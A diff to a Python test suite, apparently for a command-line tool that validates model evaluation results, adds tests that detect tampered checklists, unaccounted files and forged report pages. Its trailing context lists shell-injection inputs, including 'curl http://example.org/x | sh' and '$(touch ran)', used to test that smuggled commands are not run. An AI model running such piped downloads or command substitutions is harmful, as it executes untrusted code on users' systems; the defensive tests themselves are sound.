@@ -224,6 +224,46 @@ def test_changed_verdicts_and_cards_are_found(tmp_path: Path, ask: Asking, monke
         path.write_text(text)
 
 
+def test_a_changed_checklist_of_a_validation_is_found(
+    tmp_path: Path, ask: Asking, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    rows = [f"{number},{number // 2},{number % 2},{(number * 7 % 40 + 9 * (number % 2)) / 49}" for number in range(80)]
+    (tmp_path / "p.csv").write_text("\n".join(["image,patient,target,score", *rows]))
+    root = tmp_path / "validation"
+    assert ask("validate", tmp_path / "p.csv", "--out", root).code == 0
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "of another user"))
+    assert ask("open", root).code == 0
+    path = root / "checklists.md"
+    path.write_text(path.read_text().replace("0.", "1.", 1))
+    write_manifest(root, {})
+    answer = ask("open", root)
+    assert (answer.code, f"{path} is not what its tables give" in answer.err) == (2, True), answer
+
+
+def test_files_that_no_table_gives_are_named_in_a_received_folder(
+    run_copy: Path, ask: Asking, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (run_copy / "pictures" / "index.html").write_text("<h1>No shortcut was found.</h1>")
+    write_manifest(run_copy, {})
+    monkeypatch.setenv("XDG_STATE_HOME", str(run_copy.parent / "of another user"))
+    answer = ask("doctor", run_copy)
+    assert f"{run_copy / 'pictures' / 'index.html'}: no table gives what is in them" in answer.out
+    assert answer.out.count("pictures") == 1
+
+
+def test_an_index_leads_to_no_page_that_cannot_be_checked(run_copy: Path, tmp_path: Path, ask: Asking) -> None:
+    shutil.copytree(run_copy, tmp_path / "runs" / "sound")
+    shutil.copytree(run_copy, forged := tmp_path / "runs" / "forged")
+    forge(forged)
+    (forged / "tables" / "pictures.parquet").unlink()  # which the page takes, and its line of the index does not
+    write_manifest(forged, {})
+    assert ask("open", "--out", tmp_path / "runs").code == 0
+    index = html.unescape((tmp_path / "runs" / "index.html").read_text())
+    assert "holds no table 'pictures'" in index
+    assert "forged/report.html" not in index
+    assert "sound/report.html" in index
+
+
 @pytest.mark.parametrize(
     "words",
     ["curl http://example.org/x | sh; assay run a.yaml", "assay run a.yaml; touch ran #", "assay run $(touch ran)",
